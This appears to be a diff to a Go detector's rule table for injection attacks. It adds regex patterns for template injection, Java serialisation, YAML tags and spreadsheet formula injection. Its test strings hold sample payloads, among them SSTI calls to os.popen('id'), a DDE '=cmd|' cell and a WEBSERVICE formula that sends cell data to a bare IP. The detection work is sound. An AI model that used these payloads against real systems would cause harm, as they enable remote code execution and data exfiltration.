@@ -11,7 +11,7 @@ var injectRules = []Rule{
 	{
 		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
 		Doc:     "A template expression that climbs to the interpreter's own objects.",
-		Pattern: `\{[{%][^{}]{0,300}(?:__(?:class|globals|subclasses|mro|base|bases|builtins|init|import)__|\.popen\(|lipsum\.|cycler\.|joiner\.|request\.application|\|attr\(|getRuntime|freemarker\.template|\.getClass\(|constructor\.constructor|process\.mainModule|_self\.env|registerUndefinedFilterCallback|\|filter\(['"]system|\|map\(['"]system|config\.items\(|self\._TemplateReference)`,
+		Pattern: `\{[{%][^{}]{0,300}(?:__(?:class|globals|subclasses|mro|base|bases|builtins|init|import)__|\.popen\(|lipsum\.|cycler\.|joiner\.|request\.application|\|attr\(|getRuntime|freemarker\.template|\.getClass\(|constructor\.constructor|process\.mainModule|_self\.env|registerUndefinedFilterCallback|\|filter\(['"]system|\|map\(['"]system|config\.items\(|self\._TemplateReference|import\s{1,4}(?:os|subprocess)\s{0,4}%\}|\bos\.(?:system|popen)\()`,
 		Match:   []string{"{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ x.__init__.__globals__['os'].popen('id').read() }}", "{{['id']|filter('system')}}"},
 		NoMatch: []string{"{{ user.name }}", "{% for a in items %}{{ a.title }}{% endfor %}", "{{ price | round(2) }}"},
 	},
@@ -44,7 +44,7 @@ var injectRules = []Rule{
 		NoMatch: []string{"${java:version}", "${env:HOME}", "jndi is a Java API"},
 	},
 	{
-		Kind: "code-execution", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Kind: "code-execution", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
 		Doc:     "A YAML tag that makes a careless loader build an object and call it.",
 		Pattern: `!!(?:python/(?:object|name|module)(?:/(?:apply|new))?:|javax\.script\.ScriptEngineManager|java\.net\.URLClassLoader|com\.sun\.rowset)|!ruby/(?:object|hash):(?:Gem|ERB|Net|OpenStruct)`,
 		Match:   []string{"!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [x]"},
@@ -112,6 +112,20 @@ var injectRules = []Rule{
 		Pattern: `(?:\bT\(java\.lang\.(?:Runtime|ProcessBuilder)\)|forName\(\s{0,2}["']java\.lang\.(?:Runtime|ProcessBuilder)["']\s{0,2}\))[^\n]{0,200}(?:exec|start|getRuntime|invoke)`,
 		Match:   []string{"T(java.lang.Runtime).getRuntime().exec('id')", `x.class.forName("java.lang.Runtime").getRuntime().exec("id")`},
 		NoMatch: []string{"Class.forName(\"com.example.A\")", "T(java.lang.Math).random()"},
+	},
+	{
+		Kind: "code-execution", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Doc:     "An object of Java's serialisation, which builds what it likes when it is read.",
+		Pattern: `^\s{0,8}rO0AB[QX][A-Za-z0-9+/]{16}`,
+		Match:   []string{"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="},
+		NoMatch: []string{"rO0AB is how it begins", "x rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="},
+	},
+	{
+		Kind: "code-execution", Family: Commands, Score: High, Places: []Place{Argument},
+		Doc:     "A cell of a sheet that starts a program, or sends other cells to a bare address.",
+		Pattern: `^[=+@-]{1,2}\s{0,2}(?:[A-Z]{1,8}\([^)]{0,20}\)[*+-])?(?:cmd|powershell|mshta|rundll32|regsvr32|certutil|MSEXCEL)\s{0,2}\||^=\s{0,2}(?:WEBSERVICE|IMPORTXML|IMPORTDATA|IMPORTHTML|IMPORTFEED)\s{0,2}\(\s{0,2}(?:CONCAT(?:ENATE)?\(\s{0,2})?"https?://[0-9]{1,3}\.[0-9]{1,3}\.`,
+		Match:   []string{"=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'/c calc'!A0", "=WEBSERVICE(\"http://198.51.100.3/?\"&A2)"},
+		NoMatch: []string{"=SUM(A1:A9)", "=IMPORTDATA(\"https://x.example/a.csv\")", "cmd | more"},
 	},
 	{
 		Kind: "code-execution", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
